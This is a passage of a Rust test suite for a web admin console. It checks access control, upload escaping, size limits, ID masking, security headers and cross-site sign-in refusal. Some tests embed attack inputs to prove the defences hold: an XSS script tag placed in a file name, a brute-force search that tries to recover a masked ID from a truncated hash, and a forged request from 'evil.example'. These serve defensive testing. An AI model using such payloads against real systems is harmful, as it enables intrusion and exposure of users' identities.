    desk.app.store.add_coordinator(OTHER, &console("coord-other")).await.unwrap();
    let operator = desk.signed_in_operator().await;
    let csrf = csrf_of(&desk.get("/", Some(&operator)).await.text().await.unwrap());
    let before = snapshot(&desk).await;
    let key = desk_key(&desk, OTHER, "coord-other").await;
    for (path, body) in [
        (format!("/centres/{CENTRE}/coordinators/revoke"), format!("key={key}")),
        (format!("/centres/{CENTRE}/groups/grp-other/seats"), "capacity=1".to_owned()),
        (format!("/centres/{CENTRE}/groups/grp-other/cancel"), String::new()),
    ] {
        let response = desk.post(&path, Some(&operator), &format!("csrf={csrf}&{body}")).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
    }
    assert_eq!(snapshot(&desk).await, before);
    assert!(crate::desk::changes(&desk).await.is_empty());
}

/// Uploads `file` (named `name`) for a dry run as `cookie`, with `csrf` as the form's token.
async fn upload(desk: &Desk, cookie: &str, csrf: &str, name: &str, file: &str) -> reqwest::Response {
    let boundary = "XBOUNDARYX";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         Content-Type: text/csv\r\n\r\n{file}\r\n--{boundary}--\r\n"
    );
    reqwest::Client::new()
        .post(format!("{}/import", desk.base))
        .header(COOKIE, cookie)
        .header(CONTENT_TYPE, format!("multipart/form-data; boundary={boundary}"))
        .body(body)
        .send()
        .await
        .unwrap()
}

#[sqlx::test]
async fn an_upload_is_applied_once_its_name_is_escaped_and_a_huge_one_is_refused(pool: PgPool) {
    let desk = Desk::start(pool).await;
    let operator = desk.signed_in_operator().await;
    let csrf = csrf_of(&desk.get("/import", Some(&operator)).await.text().await.unwrap());
    let file = desk.get("/export/centres.csv", Some(&operator)).await.text().await.unwrap();
    let name = "x<script>alert(1)</script>.csv";
    let checked = upload(&desk, &operator, &csrf, name, &file).await;
    assert_eq!(checked.status(), StatusCode::OK);
    let page = checked.text().await.unwrap();
    assert!(!page.contains("<script>alert"), "{page}");
    let key = page.split("/import/").nth(1).and_then(|rest| rest.split('/').next()).expect("an apply form").to_owned();

    let apply = format!("/import/{key}/apply");
    assert_eq!(desk.post(&apply, Some(&operator), &format!("csrf={csrf}")).await.status(), StatusCode::OK);
    assert_eq!(desk.post(&apply, Some(&operator), &format!("csrf={csrf}")).await.status(), StatusCode::GONE);
    let audit = escaped(&desk, &operator, "/audit").await;
    assert!(audit.contains("&#60;script&#62;"), "the file's name in the log, escaped");

    let huge = format!("{file}{}", "x".repeat(3 * 1024 * 1024));
    let status = upload(&desk, &operator, &csrf, "big.csv", &huge).await.status();
    assert!(status.is_client_error(), "{status}");
}

#[sqlx::test]
async fn the_coordinators_page_does_not_give_away_a_full_platform_id(pool: PgPool) {
    use sha2::{Digest, Sha256};
    let desk = Desk::start(pool).await;
    // A short numeric id keeps the test quick; a 10-digit Telegram id with
    // its last three digits shown is 10^7 guesses, a second's work.
    let id = "5551234";
    desk.app.store.add_coordinator(CENTRE, &console(id)).await.unwrap();
    let operator = desk.signed_in_operator().await;
    let page = desk.get(&format!("/centres/{CENTRE}/coordinators"), Some(&operator)).await.text().await.unwrap();
    assert!(!page.contains(id), "the id itself is masked");
    let key = page.split("name=\"key\" value=\"").nth(1).and_then(|r| r.split('"').next()).expect("a revoke form");
    let tail = page.split('…').nth(1).map(|r| r.chars().take(3).collect::<String>()).expect("a masked id");
    let found = (0..10_000).map(|n| format!("{n:04}{tail}")).find(|guess| {
        let digest = Sha256::digest(format!("console:{guess}").as_bytes());
        digest[..8].iter().map(|b| format!("{b:02x}")).collect::<String>() == key
    });
    assert_eq!(found, None, "the full id {id} came back from the page's key {key} and mask …{tail}");
}

#[sqlx::test]
async fn downloads_and_refusals_carry_the_same_protective_headers_as_pages(pool: PgPool) {
    let desk = Desk::start(pool).await;
    group_at(&desk, "grp-own", CENTRE, 5).await;
    let (cookie, csrf) = coordinator(&desk, "coord", CENTRE).await;
    let operator = desk.signed_in_operator().await;
    let huge = format!("csrf={csrf}&capacity=6&pad={}", "x".repeat(3 * 1024 * 1024));
    let responses = [
        desk.get("/export/centres.csv", Some(&operator)).await,
        desk.get("/coverage.csv", Some(&operator)).await,
        desk.get(&format!("/centres/{CENTRE}/groups/grp-own/signups.csv"), Some(&cookie)).await,
        desk.get("/no-such-page", None).await,
        desk.get("/audit", None).await,
        desk.get(&format!("/centres/{OTHER}/groups"), Some(&cookie)).await,
        desk.post(&format!("/centres/{CENTRE}/groups/grp-own/seats"), Some(&cookie), &huge).await,
        desk.post("/reports/abc/close", Some(&cookie), "").await,
    ];
    for response in responses {
        let (url, headers) = (response.url().path().to_owned(), response.headers());
        assert_eq!(headers["x-content-type-options"], "nosniff", "{url}");
        assert_eq!(headers["cache-control"], "no-store", "{url}");
        assert_eq!(headers["x-frame-options"], "DENY", "{url}");
        assert_eq!(headers["referrer-policy"], "no-referrer", "{url}");
        assert!(headers["content-security-policy"].to_str().unwrap().contains("default-src 'none'"), "{url}");
    }
}

#[sqlx::test]
async fn a_sign_in_posted_from_another_site_is_refused(pool: PgPool) {
    let desk = Desk::start(pool).await;
    desk.app.store.add_operator(&console("op")).await.unwrap();
    let link = desk.link_from_bot("op").await;
    let response = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .post(&link)
        .header("origin", "https://evil.example")
        .header("sec-fetch-site", "cross-site")
        .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
        .send()
        .await
        .unwrap();
    assert!(response.headers().get(reqwest::header::SET_COOKIE).is_none(), "a session started from another site");
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
}
